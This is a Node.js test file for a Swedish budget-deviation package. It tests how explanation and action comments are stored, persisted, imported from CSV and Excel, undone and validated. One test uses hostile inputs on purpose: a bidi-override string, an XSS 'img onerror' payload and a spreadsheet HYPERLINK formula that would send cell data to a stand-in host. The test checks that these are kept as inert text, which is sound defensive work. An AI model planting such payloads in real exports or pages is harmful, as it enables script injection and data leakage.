// Explanations and actions (avvikelseförklaringar) from Node against the built package, on the
// demo region: kept through toJSON/fromJSON, next month's CSV export and undoImport; the month's
// material deviations without one listed in the deviation report's missingExplanations, and no
// longer once written; hostile text given back exactly as written, never read as markup or a
// formula; a pasted table of comments; the errors a caller branches on.
import test from 'node:test';
import assert from 'node:assert/strict';
import { createRequire } from 'node:module';
import { demo } from './oracle.mjs';

const balans = createRequire(import.meta.url)('../pkg-node/balans.js');
const encode = (text) => new TextEncoder().encode(text);

/** The demo's last booked month and a material, negative row of it (the first in tree order). */
function materialRow(ws) {
  const { outcomeThrough: asOf } = ws.deviation({ asOf: '2025-12', fields: [] });
  const report = ws.deviation({ asOf });
  const row = report.rows.find((r) => r.period.status === 'material' || r.ytd.status === 'material');
  assert.ok(row, 'the demo has a material deviation to explain');
  return { asOf, report, row };
}

const missingFor = (report, unit) => report.missingExplanations.filter((m) => m.unit === unit && m.costType == null);

test('a material deviation without an explanation is listed; written, it is not; the action is still asked of a negative one', () => {
  const ws = balans.Workspace.fromJSON(demo());
  const { asOf, report, row } = materialRow(ws);
  const before = missingFor(report, row.unit);
  assert.ok(before.length > 0);
  for (const m of before) {
    assert.equal(m.name, row.name);
    assert.ok(['month', 'ytd', 'fullYear'].includes(m.span));
    assert.ok(['material', 'favourable'].includes(m.status));
    const figures = { month: row.period, ytd: row.ytd, fullYear: row.fullYear }[m.span];
    assert.equal(m.deviation, figures.deviation);
    assert.equal(m.status, figures.status);
    assert.deepEqual(m.missing, m.status === 'material' ? ['explanation', 'action'] : ['explanation']);
  }

  ws.comment({ unit: row.unit, month: asOf, kind: 'explanation', text: 'Hyrläkare under sommaren', author: 'Anna' });
  const explained = ws.deviation({ asOf });
  assert.deepEqual(explained.rows.find((r) => r.unit === row.unit).comments.map((c) => c.text), ['Hyrläkare under sommaren']);
  const after = missingFor(explained, row.unit);
  assert.ok(after.every((m) => m.status === 'material' && m.missing.join() === 'action'), JSON.stringify(after));

  ws.comment({ unit: row.unit, month: asOf, kind: 'action', text: 'Egen rekrytering', owner: 'Verksamhetschef', due: '2025-12' });
  assert.deepEqual(missingFor(ws.deviation({ asOf }), row.unit), []);
  // Another month's report does not count this month's comments.
  const other = ws.deviation({ asOf: '2025-03' });
  assert.deepEqual(other.rows.find((r) => r.unit === row.unit).comments, []);
  ws.free();
});

test('comments survive toJSON/fromJSON, next month’s CSV export and undoImport; a removal is undone too', () => {
  const ws = balans.Workspace.fromJSON(demo());
  const { asOf, row } = materialRow(ws);
  const comment = { unit: row.unit, month: asOf, kind: 'explanation', text: 'Fler vårddygn än planerat', author: 'Anna', written: '2025-09-10' };
  const imported = ws.comment(comment);
  assert.equal(imported.comments, 1);
  const list = () => ws.comments({ asOf }).map((c) => c.text);
  assert.deepEqual(list(), [comment.text]);

  const again = balans.Workspace.fromJSON(JSON.stringify(ws));
  assert.deepEqual(again.comments({ asOf }), [comment]);
  again.free();

  // The ledger's next month: the outcome rows of the material unit for a month after asOf.
  const next = `${asOf.slice(0, 5)}${String(Number(asOf.slice(5)) + 1).padStart(2, '0')}`;
  const rows = demo().outcome.filter((r) => r.month === asOf).slice(0, 20);
  const csv = ['Kostnadsställe;Konto;Period;Utfall', ...rows.map((r) => [r.unit, r.costType ?? '', next, r.amount.replace('.', ',')].join(';'))];
  ws.importCsv(encode(`${csv.join('\r\n')}\r\n`), { file: 'utfall.csv' });
  assert.deepEqual(list(), [comment.text]);
  assert.ok(ws.undoImport());
  assert.deepEqual(list(), [comment.text]);

  assert.equal(ws.removeComment({ unit: row.unit, month: asOf, kind: 'explanation' }), true);
  assert.deepEqual(list(), []);
  assert.equal(ws.removeComment({ unit: row.unit, month: asOf, kind: 'explanation' }), false);
  ws.undoImport();
  assert.deepEqual(list(), [comment.text]);
  ws.undoImport();
  assert.deepEqual(list(), [], 'the comment itself is an import that can be taken back');
  ws.free();
});

test('hostile text comes back exactly as written and inert: bidi overrides, markup, a formula', () => {
  const ws = balans.Workspace.fromJSON(demo());
  const { asOf } = materialRow(ws);
  const hostile = [
    '\u202Eredro ni ton era serugif ehT',
    '<img src=x onerror="alert(1)">',
    '=HYPERLINK("http://example.invalid/?"&A1,"klicka")',
  ];
  const kinds = ['explanation', 'action'];
  hostile.forEach((text, i) => {
    const unit = ws.deviation({ asOf }).rows[i].unit;
    ws.comment({ unit, month: asOf, kind: kinds[i % 2], text, author: text });
  });
  const back = ws.comments({ asOf });
  assert.deepEqual(back.map((c) => c.text).sort(), [...hostile].sort());
  assert.deepEqual(back.map((c) => c.author).sort(), [...hostile].sort());
  const text = JSON.stringify(ws);
  const stored = balans.Workspace.fromJSON(text);
  assert.deepEqual(stored.comments({ asOf }), back);
  // The figures beside them are the same as without them.
  const figures = (w) => JSON.stringify(w.deviation({ asOf }).rows.map((r) => [r.unit, r.period, r.ytd, r.fullYear]));
  const plain = balans.Workspace.fromJSON(demo());
  assert.equal(figures(stored), figures(plain));
  for (const w of [ws, stored, plain]) w.free();
});

test('a comment that cannot be kept changes nothing and says which field', () => {
  const ws = balans.Workspace.fromJSON(demo());
  const { asOf, row } = materialRow(ws);
  const before = JSON.stringify(ws);
  const fails = (comment, code, field) => assert.throws(() => ws.comment(comment), (e) => {
    assert.ok(e instanceof Error);
    assert.equal(e.code, code, e.message);
    assert.equal(e.field, field);
    return true;
  });
  const base = { unit: row.unit, month: asOf, kind: 'explanation', text: 'x' };
  fails({ ...base, text: '   ' }, 'E_COMMENT', 'text');
  fails({ ...base, unit: 'NOPE' }, 'E_UNKNOWN_UNIT', 'unit');
  fails({ ...base, costType: 'NOPE' }, 'E_UNKNOWN_COST_TYPE', 'costType');
  fails({ ...base, written: '2025-02-30' }, 'E_COMMENT', 'written');
  fails({ ...base, due: '2025-12' }, 'E_COMMENT', 'due');
  fails({ ...base, kind: 'note' }, 'E_OPTION', 'kind');
  assert.equal(JSON.stringify(ws), before);
  assert.equal(ws.importsToUndo(), 0);
  ws.free();
});

test('a table pasted from Excel brings explanations and actions; a bad line is named', () => {
  const ws = balans.Workspace.fromJSON(demo());
  const { asOf, row } = materialRow(ws);
  const table = [
    'Enhet\tMånad\tTyp\tKommentar\tSkriven av\tDatum\tKlart senast\tAnsvarig',
    `${row.unit}\t${asOf}\tFörklaring\tFler hyrläkare\tAnna\t2025-09-10\t\t`,
    `${row.unit}\t${asOf}\tÅtgärd\t"Egen rekrytering;\nfler ST-läkare"\tAnna\t\t2025-12\tVerksamhetschef`,
  ].join('\n');
  const imported = ws.importComments(table);
  assert.equal(imported.comments, 2);
  const [explanation, action] = ws.comments({ asOf, unit: row.unit });
  assert.equal(explanation.text, 'Fler hyrläkare');
  assert.deepEqual([action.kind, action.text, action.owner, action.due], ['action', 'Egen rekrytering;\nfler ST-läkare', 'Verksamhetschef', '2025-12']);
  assert.deepEqual(missingFor(ws.deviation({ asOf }), row.unit), []);
  assert.throws(() => ws.importComments(`Enhet\tMånad\tText\n${row.unit}\t${asOf}\tok\nNOPE\t${asOf}\tx\n`),
    (e) => e.code === 'E_UNKNOWN_UNIT' && e.field === 'line 3.unit');
  assert.throws(() => ws.importComments(`Enhet\tMånad\tText\n${row.unit}\tseptember\tok\n`),
    (e) => e.code === 'E_PARSE_MONTH' && e.field === 'line 2, column 2 (Månad)');
  ws.free();
});
